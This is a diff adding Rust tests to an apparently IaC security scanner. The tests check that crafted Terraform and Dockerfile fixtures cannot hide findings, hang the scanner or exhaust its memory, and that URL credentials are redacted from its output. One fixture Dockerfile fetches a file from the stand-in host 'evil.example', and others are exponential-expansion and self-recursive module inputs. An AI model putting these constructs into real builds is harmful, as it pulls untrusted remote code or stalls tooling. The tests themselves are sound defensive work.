@@ -583,3 +583,104 @@ fn issue8_bad_input_gets_a_diagnostic_and_the_scan_goes_on() {
     );
     assert!(rules_at(&r).contains(&("k8s/pod.yaml".to_owned(), 6, "k8s-host-pid".to_owned())));
 }
+
+#[test]
+fn issue8_crafted_files_cannot_hide_problems_hang_or_exhaust_memory() {
+    let dir = tempfile::tempdir().unwrap();
+    // Brackets in a string are not nesting: the public database is still found.
+    write(
+        dir.path(),
+        "a/main.tf",
+        &format!(
+            "resource \"aws_db_instance\" \"db\" {{\n  description = \"{}\"\n  publicly_accessible = true\n}}\n",
+            "[".repeat(200)
+        ),
+    );
+    // `<<EOF` in quotes is not a heredoc: it must not swallow the instructions below.
+    write(
+        dir.path(),
+        "b/Dockerfile",
+        "FROM alpine:3.20\nRUN echo \"see <<EOF for details\"\nUSER root\nADD http://evil.example/x /x\n",
+    );
+    // A module that calls itself ten times: a cycle, not 10^8 evaluations.
+    let mut calls = String::new();
+    for i in 1..=10 {
+        let _ = writeln!(calls, "module \"m{i}\" {{\n  source = \"./\"\n}}");
+    }
+    write(dir.path(), "c/main.tf", &calls);
+    // Locals that square a string at each step: a note, not gigabytes.
+    let mut locals = format!("locals {{\n  a0 = \"{}\"\n", "x".repeat(80));
+    for i in 1..=6 {
+        let _ = writeln!(
+            locals,
+            "  a{i} = replace(local.a{}, \"x\", local.a{})",
+            i - 1,
+            i - 1
+        );
+    }
+    locals.push_str("}\nresource \"aws_db_instance\" \"d\" {\n  publicly_accessible = true\n  identifier = local.a6\n}\n");
+    write(dir.path(), "d/main.tf", &locals);
+    let out = palisade(
+        &[
+            "scan",
+            ".",
+            "--scanners",
+            "iac",
+            "--isolated",
+            "--format",
+            "json",
+        ],
+        dir.path(),
+    );
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let r = json(&out);
+    let found = rules_at(&r);
+    for want in [
+        ("a/main.tf", 3, "tf-aws-rds-public"),
+        ("b/Dockerfile", 3, "dockerfile-user-root"),
+        ("b/Dockerfile", 4, "dockerfile-add-remote-url"),
+        ("d/main.tf", 11, "tf-aws-rds-public"),
+    ] {
+        assert!(
+            found.contains(&(want.0.to_owned(), want.1, want.2.to_owned())),
+            "{want:?} not in {found:?}"
+        );
+    }
+    let codes: Vec<&str> = r["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| d["code"].as_str().unwrap())
+        .collect();
+    assert!(codes.contains(&"iac-evaluation-limit"), "{codes:?}");
+    assert!(codes.contains(&"iac-module-not-followed"), "{codes:?}");
+    assert!(!codes.contains(&"iac-parse-error"), "{codes:?}");
+}
+
+#[test]
+fn issue8_urls_in_messages_lose_credentials_and_queries() {
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "Dockerfile",
+        "FROM alpine:3.20\nADD https://deploy:s3cr3tT0ken@files.example/agent.tgz?token=q5ecretQ /opt/\nUSER app\n",
+    );
+    let out = palisade(
+        &[
+            "scan",
+            ".",
+            "--scanners",
+            "iac",
+            "--isolated",
+            "--format",
+            "json",
+        ],
+        dir.path(),
+    );
+    let text = stdout(&out);
+    assert!(text.contains("https://files.example/agent.tgz?"), "{text}");
+    assert!(
+        !text.contains("s3cr3tT0ken") && !text.contains("q5ecretQ"),
+        "{text}"
+    );
+}
